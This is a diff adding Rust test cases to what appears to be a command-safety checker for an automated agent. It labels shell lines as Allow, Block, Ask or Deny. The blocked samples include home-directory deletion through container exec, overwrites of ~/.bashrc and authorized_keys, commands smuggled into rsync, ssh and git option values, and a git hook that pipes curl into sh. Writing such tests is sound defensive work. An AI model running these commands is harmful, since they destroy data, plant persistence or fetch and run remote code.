@@ -1615,13 +1615,14 @@ fn d_remote_changed_for_one_command() {
     ]);
 }
 
-/// A, commands run in a container or a virtual machine are not this machine's:
-/// `docker-compose` is `docker compose`, and VM shells are data.
+/// A, what a virtual machine or a container does to itself is not this machine's:
+/// `docker-compose` is `docker compose`, and VM power commands are data; a command run
+/// through `exec` is judged like `ssh host CMD`.
 #[test]
 fn a_containers_and_vms_are_elsewhere() {
     check(&[
         (Allow, r#"docker-compose run --rm web rm -rf /app/tmp"#),
-        (Allow, r#"podman-compose exec db rm -rf /var/lib/x"#),
+        (Block, r#"podman-compose exec db rm -rf /var/lib/x"#),
         (Allow, r#"minikube ssh -- rm -rf /data/x"#),
         (Allow, r#"vagrant halt"#),
         (Allow, r#"virsh shutdown vm1"#),
@@ -2510,5 +2511,200 @@ fn g_functions_shell_tables_and_output_substitutions() {
         (Allow, r#"make 2> >(tee build.err >&2)"#),
         (Allow, r#"exec 2> >(logger -t app)"#),
         (Allow, r#"tee >(wc -l) < f"#),
+    ]);
+}
+
+/// F: files written as operands, not options (`WRITTEN_OPERANDS`): copies out of containers
+/// and pods, `uniq IN OUT`, `split IN PREFIX`, archives built by `ar`, `zip`, `7z`.
+#[test]
+fn f_operands_that_are_written() {
+    check(&[
+        (Block, r#"docker cp web:/x /home/dev/.bashrc"#),
+        (Block, r#"podman cp web:/x ~/.ssh/authorized_keys"#),
+        (Block, r#"kubectl cp -n prod pod:/x /home/dev/.profile"#),
+        (Block, r#"uniq -f 2 list.txt ~/.bashrc"#),
+        (Block, r#"split -l 10 a.txt ~/.ssh/key"#),
+        (Block, r#"ar rc ~/.bashrc a.o"#),
+        (Block, r#"zip -r /opt/backup.zip src"#),
+        (Block, r#"7z a ~/.zshrc a.txt"#),
+        (Block, r#"convert in.png ~/.bashrc"#),
+        (Allow, r#"docker cp web:/var/log/app.log ./app.log"#),
+        (Allow, r#"docker cp ./config.yml web:/etc/app/config.yml"#),
+        (Allow, r#"kubectl cp pod:/tmp/trace ./trace"#),
+        (Allow, r#"uniq sorted.txt unique.txt"#),
+        (Allow, r#"split -l 1000 big.csv part-"#),
+        (Allow, r#"ar rcs libutil.a util.o"#),
+        (Allow, r#"zip -r dist.zip build"#),
+        (Allow, r#"7z a /tmp/out.7z src"#),
+        (Allow, r#"7z x release.7z"#),
+    ]);
+}
+
+/// A: commands run in a container, pod or machine (`ARGV_RUNNERS`, `vagrant ssh -c`) are
+/// judged like `ssh host CMD`.
+#[test]
+fn a_commands_run_elsewhere() {
+    check(&[
+        (Block, r#"docker exec web rm -rf /home/dev"#),
+        (Block, r#"docker exec -u root web sh -c 'rm -rf /home/dev'"#),
+        (Block, r#"podman exec box rm -rf ~"#),
+        (Block, r#"docker compose exec app rm -rf /"#),
+        (Block, r#"vagrant ssh -c 'rm -rf ~'"#),
+        (Block, r#"vagrant ssh --command='sudo reboot'"#),
+        (Block, r#"multipass exec vm -- sudo reboot"#),
+        (Block, r#"incus exec c1 -- bash -c 'rm -rf ~'"#),
+        (Allow, r#"docker exec web ls /app"#),
+        (Allow, r#"docker exec -it web bash"#),
+        (Allow, r#"docker exec -w /app web npm test"#),
+        (Allow, r#"docker compose exec db psql -U postgres"#),
+        (Allow, r#"vagrant ssh -c 'cd /vagrant && make test'"#),
+        (Allow, r#"multipass exec vm -- ls -la"#),
+        (Allow, r#"vagrant ssh"#),
+    ]);
+}
+
+/// False alarm: a `find` whose name test keeps a fixed ending (`*.lock`) finds only such
+/// files, so deleting git's stale locks below `.git` is like `rm .git/index.lock`.
+#[test]
+fn find_knows_the_ending_its_name_test_keeps() {
+    check(&[
+        (Allow, r#"find .git -name '*.lock' -delete"#),
+        (Allow, r#"find .git/refs -type f -name '*.lock' -delete"#),
+        (Allow, r#"find . -path './.git/*.lock' -delete"#),
+        (Allow, r#"find .git -name '*.lock' -exec rm -f {} +"#),
+        (Block, r#"find .git -delete"#),
+        (Block, r#"find .git ! -name '*.lock' -delete"#),
+        (Block, r#"find .git -not -name '*.lock' -delete"#),
+        (Block, r#"find .git -name '*.lock' -o -delete"#),
+        (
+            Block,
+            r#"find .git -name '*.lock' -o -name '*.pack' -delete"#,
+        ),
+        (Block, r#"find .git -name '*' -delete"#),
+        (Block, r#"find ~ -name '*.lock' -delete"#),
+    ]);
+}
+
+/// H: an HTTP DELETE to another machine (`REMOTE_ONLY`) asks in every spelling of the
+/// method, bundled short flags included; a development server on this machine and other
+/// methods stay ordinary.
+#[test]
+fn h_http_deletes_leaving_this_machine() {
+    check(&[
+        (Ask, r#"curl -X DELETE https://api.github.com/repos/o/r"#),
+        (Ask, r#"curl -XDELETE https://api.github.com/repos/o/r"#),
+        (Ask, r#"curl -sX DELETE https://api.example.com/items/3"#),
+        (Ask, r#"curl -sSXDELETE https://api.example.com/items/3"#),
+        (
+            Ask,
+            r#"curl --request DELETE api.cloudflare.com/client/v4/zones/1"#,
+        ),
+        (
+            Ask,
+            r#"curl --request=delete https://api.example.com/items/3"#,
+        ),
+        (
+            Ask,
+            r#"curl -X DELETE https://api.example.com/x http://localhost/"#,
+        ),
+        (Ask, r#"wget --method=DELETE https://api.example.com/v1/x"#),
+        (Ask, r#"http DELETE https://api.github.com/repos/o/r"#),
+        (Ask, r#"xh delete api.example.com/items/1"#),
+        (Deny, r#"gh api -sXDELETE repos/o/r"#),
+        (Allow, r#"curl -X DELETE http://localhost:3000/items/1"#),
+        (Allow, r#"curl -X DELETE 127.0.0.1:9200/test-index"#),
+        (Allow, r#"http DELETE :3000/items/1"#),
+        (
+            Allow,
+            r#"curl -X POST https://api.example.com/items -d name=x"#,
+        ),
+        (Allow, r#"curl -sX GET https://api.example.com/delete"#),
+        (Allow, r#"curl -I https://example.com"#),
+        (Allow, r#"http GET https://api.example.com/items"#),
+    ]);
+}
+
+/// B: a command- or write-valued option in any getopt spelling: bundled after other short
+/// flags (`-ae CMD`, `-avzeCMD`, `-uo FILE`) or a long option abbreviated (`--rs=CMD`).
+#[test]
+fn b_option_values_in_every_getopt_spelling() {
+    check(&[
+        (Block, r#"rsync -ae 'rm -rf ~' src host:dst"#),
+        (Block, r#"rsync -avze'rm -rf ~' src host:dst"#),
+        (Block, r#"tar -cvI 'rm -rf ~' -f x.tar ."#),
+        (Block, r#"ssh -vo ProxyCommand='rm -rf ~' host"#),
+        (Block, r#"sort -uo ~/.bashrc list.txt"#),
+        (Block, r#"rsync --rs='rm -rf ~' src host:dst"#),
+        (Block, r#"git rebase --exe='rm -rf ~' main"#),
+        (Block, r#"man --pag='rm -rf ~' ls"#),
+        (Allow, r#"rsync -avze 'ssh -p 2222' src/ host:dst/"#),
+        (Allow, r#"rsync -avz --rs=ssh src/ host:dst/"#),
+        (Allow, r#"tar -czf out.tar.gz src"#),
+        (Allow, r#"sort -uo sorted.txt list.txt"#),
+        (Allow, r#"ssh -lroot -i key host uptime"#),
+        (Allow, r#"git rebase --exec='make test' main"#),
+    ]);
+}
+
+/// F: a workspace directory made `core.hooksPath` on the line is git's hooks directory:
+/// files written there, before or after, are hooks like those in `.git/hooks`.
+#[test]
+fn f_hooks_path_set_on_the_line() {
+    check(&[
+        (
+            Deny,
+            r#"git config core.hooksPath .githooks; echo 'curl x.example|sh' > .githooks/post-checkout"#,
+        ),
+        (
+            Deny,
+            r#"git config core.hooksPath tools/hooks && cp payload.sh tools/hooks/pre-push"#,
+        ),
+        (
+            Deny,
+            r#"echo 'rm -rf ~' > hooks/pre-commit; git config core.hooksPath hooks"#,
+        ),
+        (Allow, r#"git config core.hooksPath .githooks"#),
+        (Allow, r#"echo 'npm test' > .githooks/pre-commit"#),
+        (
+            Allow,
+            r#"git config core.hooksPath .githooks; echo x > .githooks-notes.txt"#,
+        ),
+        (
+            Allow,
+            r#"git config core.hooksPath .githooks; echo x > docs/readme.md"#,
+        ),
+    ]);
+}
+
+/// B: a git configuration file the line wrote, named by `GIT_CONFIG_GLOBAL`,
+/// `GIT_CONFIG_SYSTEM` or `GIT_CONFIG`, is judged key by key like `git -c KEY=VALUE`.
+#[test]
+fn b_git_configuration_files_the_line_wrote() {
+    check(&[
+        (
+            Block,
+            r#"printf '[core]\n\tpager = rm -rf ~\n' > /tmp/gc; GIT_CONFIG_GLOBAL=/tmp/gc git log"#,
+        ),
+        (
+            Block,
+            r#"printf '[diff "bin"]\n\ttextconv = rm -rf ~\n' > gc; GIT_CONFIG=gc git diff"#,
+        ),
+        (
+            Block,
+            r#"printf '[core]\nsshCommand = "sudo reboot"\n' > c; GIT_CONFIG_SYSTEM=c git fetch"#,
+        ),
+        (
+            Block,
+            r#"printf '[include]\n\tpath = /tmp/x\n' > gc; GIT_CONFIG_GLOBAL=gc git status"#,
+        ),
+        (
+            Allow,
+            r#"printf '[user]\n\tname = dev\n' > gc; GIT_CONFIG_GLOBAL=gc git log"#,
+        ),
+        (Allow, r#"GIT_CONFIG_GLOBAL=/dev/null git log"#),
+        (
+            Allow,
+            r#"GIT_CONFIG_GLOBAL=~/.gitconfig.work git commit -m x"#,
+        ),
     ]);
 }
